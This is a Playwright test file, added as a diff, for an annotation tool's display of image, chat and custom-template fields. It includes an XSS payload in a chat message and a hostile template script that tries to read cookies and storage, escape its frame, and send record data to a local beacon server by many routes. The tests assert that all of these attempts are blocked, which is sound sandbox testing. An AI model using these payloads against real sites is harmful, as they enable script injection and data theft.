@@ -1,0 +1,214 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from '@playwright/test';
+import { buildDataset } from '../dataset.ts';
+import { expect, expectAccessible, picture, test } from '../fixtures.ts';
+
+const COMMENT = { name: 'comment', title: 'Say why', settings: { type: 'text', use_markdown: false } };
+/** A red dot, five by five. */
+const PNG =
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==';
+const CHAT = [
+  { role: 'system', content: 'You are a patient teacher.' },
+  { role: 'user', content: 'What is **photosynthesis**?' },
+  { role: 'assistant', content: 'Plants make sugar from *light*:\n\n1. water\n2. carbon dioxide' },
+  { role: 'user', content: '<img src=x onerror="window.hacked = true"> thanks' },
+  { role: 'tool', content: '{"ok": true}' },
+];
+const TEMPLATE = `<style>h1 { color: teal; font-size: 20px }</style>
+<h1>{{record.fields.card.title}}</h1>
+<ul>{{#each record.fields.card.tags}}<li>{{this}}</li>{{/each}}</ul>
+{{json record.fields.card}}`;
+const CARD = { title: 'Green <tea>', tags: ['hot', 'leafy'] };
+
+test.describe('a record with fields of all types', () => {
+  for (const colorScheme of ['light', 'dark'] as const) {
+    test(`shows image, conversation and template in the ${colorScheme} theme`, async ({ page, owner, signInAs }) => {
+      const dataset = await buildDataset(owner, {
+        fields: [
+          { name: 'photo', title: 'Photo', settings: { type: 'image' } },
+          { name: 'talk', title: 'Talk', settings: { type: 'chat', use_markdown: true } },
+          { name: 'card', title: 'Card', settings: { type: 'custom', template: TEMPLATE } },
+        ],
+        questions: [COMMENT],
+        records: [{ fields: { photo: PNG, talk: CHAT, card: CARD } }],
+      });
+      await page.emulateMedia({ colorScheme });
+      await page.setViewportSize({ width: 1440, height: 1400 });
+      await signInAs(page, 'annotator');
+      await page.goto(dataset.path);
+
+      const image = page.getByRole('img', { name: /^Photo, record / });
+      await expect(image).toBeVisible();
+      const talk = page.getByRole('list', { name: 'Talk: conversation, 5 messages' });
+      await expect(talk.getByRole('listitem').filter({ hasText: 'Assistant' })).toContainText('Plants make sugar');
+      await expect(talk.locator('strong')).toHaveText('photosynthesis');
+      await expect(talk.getByText('tool', { exact: true })).toBeVisible();
+      expect(await page.evaluate(() => (window as { hacked?: boolean }).hacked)).toBeUndefined();
+      const frame = page.frameLocator('iframe[title="Card: content"]');
+      await expect(frame.getByRole('heading', { name: 'Green <tea>' })).toBeVisible();
+      await expect(frame.getByRole('listitem')).toHaveText(['hot', 'leafy']);
+      await expect(frame.locator('html')).toHaveAttribute('data-theme', colorScheme);
+      // The frame is as high as its content.
+      const iframe = page.locator('iframe[title="Card: content"]');
+      await expect
+        .poll(async () => (await iframe.boundingBox())!.height)
+        .toBe(
+          await frame
+            .locator('html')
+            .evaluate(() => Math.max(document.documentElement.offsetHeight, document.body.scrollHeight)),
+        );
+      await expectAccessible(page);
+      await picture(page, `field-types-${colorScheme}`);
+
+      await page.setViewportSize({ width: 390, height: 844 });
+      await expect(image).toBeVisible();
+      await expectAccessible(page);
+      await picture(page, `field-types-${colorScheme}-phone`);
+    });
+  }
+
+  test('enlarges an image by buttons, keys and wheel, and says when it cannot be loaded', async ({
+    page,
+    owner,
+    signInAs,
+  }) => {
+    const dataset = await buildDataset(owner, {
+      fields: [
+        { name: 'good', title: 'Good', settings: { type: 'image' } },
+        { name: 'bad', title: 'Bad', settings: { type: 'image' } },
+      ],
+      questions: [COMMENT],
+      records: [{ fields: { good: PNG, bad: 'http://127.0.0.1:1/cat.png' } }],
+    });
+    await signInAs(page, 'annotator');
+    await page.goto(dataset.path);
+    const card = page.getByRole('region', { name: 'Good' });
+    const view = card.getByRole('group', { name: 'Good: image' });
+    await expect(view.getByRole('img')).toBeVisible();
+    await card.getByRole('button', { name: 'Zoom in' }).click();
+    await expect(card.getByText('125 %')).toBeVisible();
+    await view.focus();
+    await page.keyboard.press('+');
+    await expect(card.getByText('156 %')).toBeVisible();
+    await page.keyboard.press('0');
+    await expect(card.getByText('100 %')).toBeVisible();
+    await view.hover();
+    await page.keyboard.down('Control');
+    await page.mouse.wheel(0, -100);
+    await page.keyboard.up('Control');
+    await expect(card.getByText('125 %')).toBeVisible();
+    const broken = page.getByRole('group', { name: 'The image cannot be loaded' });
+    await expect(broken.getByRole('link', { name: 'http://127.0.0.1:1/cat.png' })).toBeVisible();
+    await expectAccessible(page);
+  });
+
+  test('shows a conversation of 500 long messages without delay', async ({ page, owner, signInAs }) => {
+    const talk = Array.from({ length: 500 }, (_, index) => ({
+      role: index % 2 ? 'assistant' : 'user',
+      content: `Message ${index + 1}. ${'Long and longer. '.repeat(400)}`,
+    }));
+    const dataset = await buildDataset(owner, {
+      fields: [{ name: 'talk', title: 'Talk', settings: { type: 'chat', use_markdown: true } }],
+      questions: [COMMENT],
+      records: [{ fields: { talk } }],
+    });
+    await signInAs(page, 'annotator');
+    await page.goto(dataset.path);
+    await expect(page.getByRole('list', { name: /^Talk/ }).getByRole('listitem')).toHaveCount(50);
+    await page.getByRole('button', { name: 'Show all 500 messages' }).click();
+    await expect(page.getByRole('list', { name: /^Talk/ }).getByRole('listitem')).toHaveCount(500);
+  });
+});
+
+/** What a template did to get out, told by the frame as its text. */
+const HOSTILE = (beacon: string) => `<div id="told">waiting</div><script>
+  const attempts = {
+    cookie: () => document.cookie,
+    storage: () => localStorage.length,
+    database: () => indexedDB.open('x') && 'opened',
+    parent: () => parent.document.title,
+    top: () => top.location.href,
+  };
+  const told = {};
+  for (const [name, attempt] of Object.entries(attempts)) {
+    try { told[name] = 'got ' + attempt(); } catch (error) { told[name] = error.name; }
+  }
+  try { top.location = '${beacon}/top'; told.navigate = 'done'; } catch (error) { told.navigate = error.name; }
+  try { told.open = String(window.open('${beacon}/open')); } catch (error) { told.open = error.name; }
+  new Image().src = '${beacon}/image';
+  document.write('<link rel="stylesheet" href="${beacon}/style"><iframe src="${beacon}/frame"></iframe>');
+  document.write('<form action="${beacon}/form" method="post" id="form"></form>');
+  document.getElementById('form').submit();
+  navigator.sendBeacon('${beacon}/beacon', 'x');
+  try { new WebSocket('${beacon}/socket'.replace('http', 'ws')); } catch {}
+  const script = document.createElement('script'); script.src = '${beacon}/script'; document.head.append(script);
+  const ways = [fetch('${beacon}/fetch'), fetch('/api/v1/me'), import('${beacon}/module')];
+  Promise.allSettled(ways).then((all) => {
+    told.fetch = all.map(({ status }) => status).join(' ');
+    document.getElementById('told').textContent = JSON.stringify(told);
+    setInterval(() => parent.postMessage({ height: 1e9 }, '*'), 5);
+    for (const height of [NaN, -1, 'x', null, {}]) parent.postMessage({ height }, '*');
+    parent.postMessage(null, '*');
+    setTimeout(() => { location = '${beacon}/self?' + encodeURIComponent(JSON.stringify(record)); }, 500);
+  });
+</script>`;
+
+test('a hostile template reaches neither the page nor the network', async ({ page, owner, signInAs }) => {
+  const reached: string[] = [];
+  const elsewhere = createServer((request, response) => {
+    reached.push(request.url!);
+    response.setHeader('access-control-allow-origin', '*').end('');
+  });
+  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+  const beacon = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+  try {
+    const template = HOSTILE(beacon);
+    const dataset = await buildDataset(owner, {
+      fields: [
+        { name: 'card', title: 'Card', settings: { type: 'custom', template, advanced_mode: true } },
+        { name: 'simple', title: 'Simple', settings: { type: 'custom', template: '{{record.fields.simple.html}}' } },
+        { name: 'faulty', title: 'Faulty', settings: { type: 'custom', template: '{{#if}}' } },
+      ],
+      questions: [COMMENT],
+      records: [
+        {
+          fields: {
+            card: { secret: 1 },
+            simple: { html: `<img src="${beacon}/value"><script>1</script>` },
+            faulty: {},
+          },
+        },
+      ],
+    });
+    await signInAs(page, 'annotator');
+    const popups: Page[] = [];
+    page.context().on('page', (popup) => popups.push(popup));
+    await page.goto(dataset.path);
+    const told = page.frameLocator('iframe[title="Card: content"]').locator('#told');
+    await expect(told).toContainText('fetch');
+    expect(JSON.parse(await told.innerText())).toEqual({
+      cookie: 'SecurityError',
+      storage: 'SecurityError',
+      database: 'SecurityError',
+      parent: 'SecurityError',
+      top: 'SecurityError',
+      navigate: 'SecurityError',
+      open: 'null',
+      fetch: 'rejected rejected rejected',
+    });
+    // A value is a text, even if it looks like HTML.
+    const simple = page.frameLocator('iframe[title="Simple: content"]').locator('body');
+    await expect(simple).toContainText('<script>1</script>');
+    await expect(page.getByText(/^The template has an error: Parse error/)).toBeVisible();
+    await page.waitForTimeout(1500);
+    expect(reached).toEqual([]);
+    expect(popups).toEqual([]);
+    expect(new URL(page.url()).pathname).toBe(new URL(dataset.path, page.url()).pathname);
+    const height = (await page.locator('iframe[title="Card: content"]').boundingBox())!.height;
+    expect(height).toBeLessThanOrEqual(2000);
+    await page.getByRole('textbox', { name: 'Say why' }).fill('still here');
+  } finally {
+    elsewhere.close();
+  }
+});
